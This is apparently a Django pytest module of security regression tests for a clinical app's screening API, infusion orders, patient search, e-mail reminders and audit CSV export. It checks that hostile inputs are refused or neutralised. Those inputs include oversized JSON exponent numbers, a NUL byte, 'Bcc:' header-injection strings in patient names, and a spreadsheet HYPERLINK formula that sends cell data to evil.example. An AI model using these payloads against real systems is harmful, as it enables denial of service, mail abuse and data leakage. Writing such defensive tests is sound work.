"""Issue 16: one test per finding, named after it ("hostile and careless input never
breaks a page, a worker, an e-mail or an export"). Each goes through Django's test
client as the role that meets the input. Where a test elsewhere proves the finding in
depth (tests/core/test_bounded_numbers.py, test_request_hygiene.py, test_csv_exports.py,
test_security_headers.py, tests/reminders/test_header_safety.py), the one here is the
finding's own small, real check: it fails when the protection is removed."""

import csv
import io
import json
import time
from datetime import timedelta
from email import message_from_bytes
from pathlib import Path

import pytest
import time_machine
from django.core import mail
from django.db import DataError, connection, transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from core import numbers, services
from core.models import AuditEvent, Patient
from core.reminders import services as reminder_services
from core.security_headers import DATA_POLICY, PAGE_POLICY
from infusion.models import Order
from screening import services as screening_services
from tests.factories import add_weight
from tests.infusion.engine import example_doc
from tests.reminders.conftest import T0, enqueued, remind, run_sweep  # noqa: F401 (fixtures)
from tests.screening.conftest import form_data
from tests.security.matrix_infusion import ORDER
from tests.security.world import World

pytestmark = pytest.mark.django_db

EXAMPLES = Path(__file__).resolve().parents[2] / "docs" / "examples" / "screening"


def _body_with(doc, keys, literal):
    node = doc
    for key in keys[:-1]:
        node = node[key]
    node[keys[-1]] = "@@HOSTILE@@"
    return json.dumps(doc).replace('"@@HOSTILE@@"', literal)


def _post_json_fastest(client, url, body):
    client.post(url, data="{}", content_type="application/json")  # warm the view
    best = None
    for _ in range(3):
        started = time.perf_counter()
        response = client.post(url, data=body, content_type="application/json")
        ms = (time.perf_counter() - started) * 1000
        best = ms if best is None else min(best, ms)
    return response, best


def test_one_json_number_kills_a_web_worker_screening_api_answers_400_fast(login, nurse):
    body = _body_with(
        json.loads((EXAMPLES / "sle.json").read_text(encoding="utf-8")),
        ("labs", "alt", "value"),
        "1e-999999999",
    )
    response, ms = _post_json_fastest(login(nurse), "/api/screening/evaluate", body)
    assert response.status_code == 400
    assert response.json()["errors"] == [{"field": "labs.alt.value", "message": numbers.MESSAGE}]
    assert ms < 50, f"{ms:.1f} ms"


def test_one_json_number_kills_a_web_worker_infusion_api_weight(login, nurse):
    body = _body_with(example_doc(), ("patient", "weight", "kg"), "1e999999999")
    response, ms = _post_json_fastest(login(nurse), "/api/infusion/plan", body)
    assert response.status_code == 400
    assert response.json()["errors"] == [{"field": "patient.weight.kg", "message": numbers.MESSAGE}]
    assert ms < 50, f"{ms:.1f} ms"


def test_nul_byte_in_patient_search_is_400_not_500(login, nurse, patient):
    client = login(nurse)
    response = client.get("/patients/?q=%00")
    assert response.status_code == 400
    assert "U+0000" in response.content.decode()
    assert client.get("/patients/?q=Alice").status_code == 200  # the search itself works


def test_page_beyond_last_shows_last_page(login, pharmacist):
    client = login(pharmacist)
    last = client.get("/infusion/queue/")
    beyond = client.get("/infusion/queue/?page=99999999999999999999999")
    assert beyond.status_code == 200
    assert "Page 1 of 1" in beyond.content.decode() or (
        beyond.content.decode().count('class="card') == last.content.decode().count('class="card')
    )


def test_unbounded_text_order_note_refused_over_2000():
    world = World()
    order = Order.objects.get(pk=ORDER["pk"](world))
    url = reverse("infusion:order_edit", kwargs={"pk": order.pk})
    client = Client()
    client.force_login(world.users["physician"])

    refused = client.post(url, {"note": "n" * 2001, "reason": "longer note"})
    assert refused.status_code == 400
    assert "at most 2000 characters (it has 2001)" in refused.content.decode()
    assert "n" * 2001 in refused.content.decode()  # what was typed is kept in the form
    order.refresh_from_db()
    assert len(order.note) <= 2000

    accepted = client.post(url, {"note": "n" * 2000, "reason": "longer note"})
    assert accepted.status_code == 302
    order.refresh_from_db()
    assert order.note == "n" * 2000

    # The database itself refuses a longer note, whatever code tries to write it.
    with pytest.raises(DataError), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("UPDATE infusion_order SET note = %s WHERE id = %s", ["n" * 2001, order.pk])


def test_api_free_text_over_its_length_is_a_clear_field_error(login, nurse):
    # The APIs' free text has its length in the JSON schema (an item of a BVAS
    # assessment: 200 characters). At the length it is read; one more is a 400 naming
    # the field and the length, and a 1 MB string is refused the same way, quickly.
    client = login(nurse)
    for typed, status in (("x" * 200, 200), ("x" * 201, 400), ("x" * 1_000_000, 400)):
        doc = json.loads((EXAMPLES / "aav.json").read_text(encoding="utf-8"))
        doc["aav"]["bvas_assessments"][2]["items"][0]["item"] = typed
        response = client.post(
            "/api/screening/evaluate", data=json.dumps(doc), content_type="application/json"
        )
        assert response.status_code == status, len(typed)
        if status == 400:
            assert response.json()["errors"] == [
                {
                    "field": "aav.bvas_assessments.2.items.0.item",
                    "message": f"must be at most 200 characters, not {len(typed)}",
                }
            ]


@pytest.mark.parametrize("char", ["\r", "\x0b", "\x0c", "\x1c"])
def test_email_header_injection_patient_name_with_cr_refused(
    login,
    nurse,
    patient,
    remind,  # noqa: F811 (the reminders' fixture, imported above)
    run_sweep,  # noqa: F811
    char,
):
    response = login(nurse).post(
        f"/patients/{patient.pk}/edit/",
        {
            "hospital_number": patient.hospital_number,
            "name": f"Alice{char}Bcc: victim@evil.example",
            "sex": patient.sex,
            "date_of_birth": patient.date_of_birth.isoformat(),
            "ward": patient.ward_id,
            "reason": "typo",
        },
    )
    assert response.status_code in (200, 400)  # the form again, with its error
    assert "control character" in response.content.decode()
    patient.refresh_from_db()
    assert patient.name == "Alice Example"

    # A name stored before the check still gives one clean Subject line, and is sent.
    nurse.email = "nurse@ward.example"
    nurse.save()
    with connection.cursor() as cursor:
        cursor.execute(
            "UPDATE core_patient SET name = %s WHERE id = %s",
            [f"Alice{char}Bcc: victim@evil.example", patient.pk],
        )
    reminder = remind(due_at=T0, title_params={"patient": Patient.objects.get().name})
    with time_machine.travel(T0, tick=False):
        run_sweep()
    with time_machine.travel(T0 + timedelta(seconds=5), tick=False):
        assert reminder_services.deliver(reminder.pk) == "sent"
    [message] = mail.outbox
    parsed = message_from_bytes(message.message().as_bytes())
    assert "Bcc" not in parsed and parsed.get_all("To") == ["nurse@ward.example"]
    assert not any(c in message.subject for c in "\r\n\x0b\x0c\x1c")


def test_csv_formula_injection_audit_export_neutralised(login, physician, auditor, patient):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    services.patient_update(
        actor=physician, patient=patient, data={"name": "Alice Changed"}, reason=hostile
    )
    response = login(auditor).get("/audit/export.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    reasons = [row["reason"] for row in rows]
    assert "'" + hostile in reasons and hostile not in reasons


def test_headers_csp_and_no_store(login, nurse, patient):
    # In depth, for every class of response: tests/core/test_security_headers.py.
    client = login(nurse)
    page = client.get(f"/patients/{patient.pk}/")
    api = client.post("/api/screening/evaluate", data="{}", content_type="application/json")
    for response, policy in ((page, PAGE_POLICY), (api, DATA_POLICY)):
        assert response["Content-Security-Policy"] == policy
        assert "no-store" in response["Cache-Control"].replace(" ", "").split(",")
    assert "script-src 'self'" in PAGE_POLICY and "unsafe-inline" not in PAGE_POLICY


def test_typing_abc_into_prefilled_weight_keeps_value_and_shows_error(login, nurse, patient):
    add_weight(patient, nurse, "58.5", when=timezone.now() - timedelta(days=2))
    screening = screening_services.screening_start(actor=nurse, patient=patient, indication="SLE")
    assert screening.facts["patient"]["weight_kg"]["value"] == 58.5  # prefilled
    client = login(nurse)
    data = form_data(screening, **{"patient.weight_kg.value": "abc"})

    response = client.post(f"/screening/{screening.pk}/evaluate/", data)
    html = response.content.decode()
    assert response.status_code == 400
    weight = html[html.index('id="fld-patient-weight_kg"') :][:2500]
    # What was typed is shown as typed (a text input: a number input would show nothing)…
    assert 'type="text" id="in-patient-weight_kg-value"' in weight and 'value="abc"' in weight
    assert "Enter a number." in weight
    # …and the prefilled value is kept, and the page says so.
    assert "the draft keeps the previous value, 58.5" in weight
    screening.refresh_from_db()
    assert screening.facts["patient"]["weight_kg"]["value"] == 58.5
    assert screening.invalid_inputs["patient.weight_kg.value"] == "abc"
    # Opening the draft again shows the same.
    again = client.get(f"/screening/{screening.pk}/").content.decode()
    again = again[again.index('id="fld-patient-weight_kg"') :][:2500]
    assert 'value="abc"' in again and "Enter a number." in again
    screening.refresh_from_db()
    assert screening.facts["patient"]["weight_kg"]["value"] == 58.5
    assert AuditEvent.objects.filter(object_type="screening.Screening").exists()
